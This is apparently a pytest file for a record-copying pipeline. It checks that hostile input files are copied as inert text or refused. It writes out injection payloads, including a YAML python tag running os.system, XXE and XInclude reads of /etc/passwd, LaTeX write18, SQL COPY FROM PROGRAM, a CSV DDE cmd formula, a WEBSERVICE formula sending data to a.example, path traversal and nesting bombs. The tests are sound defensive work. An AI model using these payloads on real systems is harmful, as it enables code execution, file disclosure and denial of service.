"""Files that attack the programs that read them: a copy is made without running, including or multiplying anything."""

import io
import json
import time
import tracemalloc
import zipfile
from pathlib import Path

import openpyxl
import pytest

from pipeline.records import BrokenRecord
from tests.conftest import Command
from tests.pipeline.records.copies import copy, records_of

NAME, NEW = "Zebulon Quackenbush", "Thaddeus Wren"
NINES = "9" * 100_000
SHEETS = "".join(
    f"{two}: &{two} [{', '.join([f'*{one}'] * 9)}]\n" for one, two in zip("abcdefgh", "bcdefghi", strict=True)
)

# The copy keeps what is dangerous elsewhere as the text that it is: nothing is run, loaded or included to read it.
HARMLESS = {
    "a tag of Python in YAML": ("a.yaml", "run: !!python/object/apply:os.system ['touch PWNED']\nname: {}\n"),
    "aliases that multiply in YAML": ("a.yaml", "a: &a [x, x, x, x, x, x, x, x, x]\n" + SHEETS + "name: {}\n"),
    "a merge key of itself in YAML": ("a.yaml", "a: &a\n  <<: *a\nname: {}\n"),
    "a long number in YAML": ("a.yaml", f"n: {NINES}\nname: {{}}\n"),
    "a long number in CSV": ("a.csv", f"n,name\n{NINES},{{}}\n"),
    "a long number in SQL": ("a.sql", f"INSERT INTO t (n, name) VALUES ({NINES}, '{{}}');\n"),
    "a command in a cell": ("a.csv", "name,note\n{},=cmd|' /C calc'!A0\n"),
    "an address in a cell": ("a.csv", 'name,note\nx,"=HYPERLINK(""http://a.example/?q={}"")"\n'),
    "XInclude": ("a.xml", '<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/>{}</r>'),
    "an external document type": ("a.xml", '<!DOCTYPE r SYSTEM "file:///etc/passwd"><r>{}</r>'),
    "an external style sheet": ("a.xml", '<?xml-stylesheet href="file:///etc/passwd"?><r>{}</r>'),
    "an entity of HTML": ("a.html", "<!doctype html [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><p>&a; {}"),
    "a directive of reST": ("a.rst", ".. include:: /etc/passwd\n\n{}\n\n.. raw:: html\n   :file: /etc/passwd\n"),
    "a command of LaTeX": ("a.tex", "\\input{{/etc/passwd}}\\write18{{touch PWNED}}\n{}\n"),
    "a program in SQL": ("a.sql", "COPY t FROM PROGRAM 'touch PWNED';\nINSERT INTO t (name) VALUES ('{}');\n"),
    "a path of an attachment": (
        "a.eml",
        "From: a@b.de\nMessage-ID: <1@b.de>\nContent-Type: text/plain; name=\"../../PWNED\"\n\n{}\n",
    ),
}  # fmt: skip


@pytest.mark.parametrize("case", HARMLESS)
def test_hostile_file_is_copied_as_text(case: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    name, content = HARMLESS[case]
    monkeypatch.chdir(tmp_path)
    original = content.format(NAME).encode()
    started = time.monotonic()

    done = copy(original, name, lambda text: text.value.replace(NAME, NEW), may_be_broken=False)

    assert done == content.format(NEW).encode()
    assert time.monotonic() - started < 10
    assert list(tmp_path.iterdir()) == []


def mail_in_mail(depth: int) -> str:
    return "From: a@b.de\nMessage-ID: <1@b.de>\nContent-Type: message/rfc822\n\n" * depth + f"{NAME}\n"


REFUSED = {
    "nested JSON": ("a.json", "[" * 50_000 + "]" * 50_000, "nested too deeply"),
    "nested objects": ("a.jsonl", '{"a":' * 100_000 + "1" + "}" * 100_000 + "\n", "nested too deeply"),
    "nested YAML": ("a.yaml", "".join(f"{' ' * depth}a:\n" for depth in range(1_000)), "nested too deeply"),
    "nested TOML": ("a.toml", "a = " + "[" * 100_000 + "]" * 100_000, "nested too deeply"),
    "nested elements": ("a.xml", "<a>" * 25_000 + "</a>" * 25_000, "nested more than 200 deep"),
    "mail in mail": ("a.eml", mail_in_mail(200), "more than 20 levels of parts"),
    "a long number in TOML": ("a.toml", f'n = {NINES}\nname = "{NAME}"\n', "a number has more than 4,300 digits"),
    "no number of JSON": ("a.json", f'{{"n": NaN, "name": "{NAME}"}}', "NaN and Infinity are not JSON numbers"),
}


@pytest.mark.parametrize("case", REFUSED)
def test_hostile_file_is_refused_with_the_reason(case: str) -> None:
    name, content, reason = REFUSED[case]
    tracemalloc.start()

    (found,) = records_of(content, name)

    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert isinstance(found, BrokenRecord)
    assert reason in found.reason
    assert "Zebulon" not in found.reason
    assert peak < 80 << 20  # a buffer for the largest record is nearly all of it


def test_long_numbers_of_json_keep_their_digits() -> None:
    content = f'{{"n": {NINES}, "e": 1e999999999, "name": "{NAME}"}}\n'
    assert copy(content.encode(), "a.jsonl", may_be_broken=False) == content.encode()


def test_formulas_of_a_sheet_stay_formulas_with_other_values(tmp_path: Path, heteronym: Command) -> None:
    book = openpyxl.Workbook()
    for row in (["name", "note"], [NAME, f'=WEBSERVICE("http://a.example/?q={NAME}")'], ["x", "=cmd|' /C calc'!A0"]):
        book.active.append(row)
    book.save(tmp_path / "a.xlsx")
    (tmp_path / "off.yaml").write_text(
        "classification: off\nextends: confidential\nloosen: [ner]\ndetection: {ner: off}\n"
    )

    done = heteronym("run", "a.xlsx", "-c", "off.yaml", "-o", "out", "--direct_num_workers=1")

    assert done.returncode == 0, done.stderr
    sheet = openpyxl.load_workbook(tmp_path / "out/a.xlsx").active
    assert [cell.data_type for row in sheet.iter_rows() for cell in row] == ["s", "s", "s", "f", "s", "f"]
    assert sheet["B3"].value == "=cmd|' /C calc'!A0"
    with zipfile.ZipFile(tmp_path / "out/a.xlsx") as archive:
        assert not any(b"Quackenbush" in archive.read(name) for name in archive.namelist())


def test_notebook_is_not_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    cell = {
        "cell_type": "code",
        "source": [f"!touch PWNED\nname = '{NAME}'"],
        "metadata": {},
        "outputs": [],
        "execution_count": None,
    }
    content = json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()

    done = copy(content, "a.ipynb", lambda text: text.value.replace(NAME, NEW), may_be_broken=False)

    assert json.load(io.BytesIO(done))["cells"][0]["source"] == [f"!touch PWNED\nname = '{NEW}'"]
    assert list(tmp_path.iterdir()) == []
